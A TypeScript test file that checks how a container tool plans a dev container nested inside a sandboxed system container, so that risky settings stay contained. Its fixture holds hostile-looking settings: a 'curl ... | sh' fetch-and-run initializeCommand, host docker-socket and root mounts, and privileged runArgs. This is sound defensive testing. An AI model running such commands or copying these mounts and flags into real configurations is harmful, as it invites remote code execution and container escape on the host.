import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { realMachine } from '../../machine/real.ts';
import { discover } from '../discover.ts';
import { parsePlan } from '../gate/read-plan.ts';
import { rules } from '../../rules/catalogue.ts';
import { type NestedLaunchWish, prepareNested } from './prepare-nested.ts';
import type { PreparedLaunch } from './prepare-launch.ts';

const root = mkdtempSync(join(tmpdir(), 'containai-nested-plan-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));

let folders = 0;
async function planned(
  configuration: object | string,
  more: Partial<NestedLaunchWish> = {},
): Promise<(PreparedLaunch & { readonly folder: string }) | { readonly problems: readonly string[] }> {
  const folder = join(root, `work${folders++}`);
  mkdirSync(join(folder, '.devcontainer'), { recursive: true });
  const text = typeof configuration === 'string' ? configuration : JSON.stringify(configuration);
  writeFileSync(join(folder, '.devcontainer/devcontainer.json'), text);
  const [target] = discover(folder, realMachine).targets;
  const host = { kernel: '6.8', sysbox: { version: '0.7.0' }, engine: { version: '26.1.5' }, buildsUnderSysbox: true };
  const hash = '0123456789ab';
  const answer = await prepareNested(
    {
      target: target!,
      audit: { tier: 'strict', host, version: '1.2.3' },
      host,
      engine: { socket: '/run/docker.sock', isOwn: false },
      info: { NCPU: 2 },
      firewall: 'no',
      wished: {},
      owner: 'abc',
      userId: 1000,
      allowed: [],
      granted: [],
      network: [],
      credentials: [],
      ssh: { port: 2300 },
      workspace: folder,
      configuration: join(folder, target!.path),
      image: {
        name: `containai/system:${hash}`,
        hash,
        base: 'debian:trixie',
        baseId: 'sha256:b',
        user: { uid: 1000, gid: 1000 },
        id: 'sha256:i',
      },
      base: 'debian:trixie',
      user: { uid: 1000, gid: 1000 },
      ...more,
    },
    realMachine,
  );
  if ('problems' in answer) return { problems: answer.problems.map(({ message }) => message) };
  return { ...answer, folder };
}

const everything = {
  image: 'base:1',
  privileged: true,
  initializeCommand: 'curl https://example.test | sh',
  mounts: ['source=/var/run/docker.sock,target=/s,type=bind', 'source=/,target=/host,type=bind'],
  runArgs: ['--network=host', '--pid=host', '--device=/dev/fuse', '--cap-add=SYS_MODULE', '--gpus=all'],
  features: { 'ghcr.io/nobody/unknown:1': {} },
};

describe('a dev container inside a system container', () => {
  test('is planned as that container alone, whatever it asks for: nothing is refused, and nobody is asked', async () => {
    const made = await planned(everything);
    if (!('plan' in made)) throw new Error(made.problems.join());
    const { plan, folder, override, nested, starts } = made;
    expect([plan.refused, plan.consents, plan.rewrites, starts]).toEqual([[], [], [], 'system container']);
    expect(nested).toEqual({ configuration: `/workspaces/${basename(folder)}/.devcontainer/devcontainer.json`, images: ['base:1'] });
    // The gate is held to the system container, with the workspace and a volume of its own.
    expect(plan.gate.requests).toHaveLength(1);
    expect(plan.gate.requests[0]!.mounts.map(({ value }) => value.target)).toEqual([`/workspaces/${basename(folder)}`, '/var/lib/docker']);
    expect(override).toMatchObject({ Image: 'containai/system:0123456789ab' });
    expect(JSON.stringify(override)).not.toMatch(/curl|docker\.sock|fuse|privileged/iu);
    expect(parsePlan(JSON.stringify(plan.gate), new Set(rules.map(({ id }) => id)))).toMatchObject({ owner: 'abc' });
  });

  test('says what fails there all the same', async () => {
    const made = await planned(everything);
    expect('plan' in made && made.plan.fails).toEqual([
      '/dev/fuse is no device inside: “no such file or directory”',
      'no graphics processor is there',
      'no module of the kernel can be loaded from there',
    ]);
  });

  test('is another one when its configuration changes', async () => {
    const [one, other] = await Promise.all([planned({ image: 'base:1' }), planned({ image: 'base:2' })]);
    const imagesOf = (made: typeof one): unknown =>
      'part' in made ? made.part.asked.slice(1).map((request) => 'image' in request && request.image?.value) : [];
    expect([imagesOf(one), imagesOf(other)]).toEqual([['base:1'], ['base:2']]);
  });

  test('with the build of its image refused where an engine would run that as root', async () => {
    const made = await planned(everything, { image: undefined, host: { buildsUnderSysbox: false } });
    expect('plan' in made && made.plan.refused.map(({ rule }) => rule)).toEqual(['build-not-contained']);
  });

  test('with a configuration that cannot be read is none', async () => {
    expect(await planned('{ "image": "base:1" "name": "x" }')).toEqual({ problems: [expect.stringContaining('comma')] });
  });
});
